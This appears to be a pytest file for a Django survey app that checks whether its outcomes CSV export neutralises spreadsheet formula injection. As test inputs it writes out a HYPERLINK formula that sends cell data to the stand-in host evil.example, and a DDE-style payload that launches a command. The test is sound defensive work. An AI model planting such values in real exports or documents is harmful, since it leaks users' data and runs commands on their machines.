"""The outcomes CSV never hands a spreadsheet a formula written by a user."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from upward.surveys.models import Question, Survey
from upward.surveys.tests.helpers import (
    END_DAY,
    START_DAY,
    answer,
    open_template,
    participants,
    settle,
)

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_formula_leading_titles_and_questions_are_escaped_numbers_are_not(world, pairs):
    start = open_template(world.programme, "digital-skills-start")
    end = open_template(world.programme, "digital-skills-end")
    for person in participants(world.programme, 10, role="mentee", prefix="Lead"):
        answer(start, person, today=START_DAY, confidence_digital=4)
        answer(end, person, today=END_DAY, confidence_digital=2, digital_skills_felt_change=5)
    settle(start, end)
    Question.objects.filter(survey__in=[start, end]).update(text=PAYLOAD)
    Survey.objects.filter(pk=end.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    response = world.client_for(world.manager).get(
        reverse("surveys:export", args=[world.programme.pk])
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{PAYLOAD}" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    # No cell a spreadsheet would run, and negative numbers stay numbers.
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell
        if cell.startswith(("+", "-")):
            float(cell)
    assert "-2.00" in cells
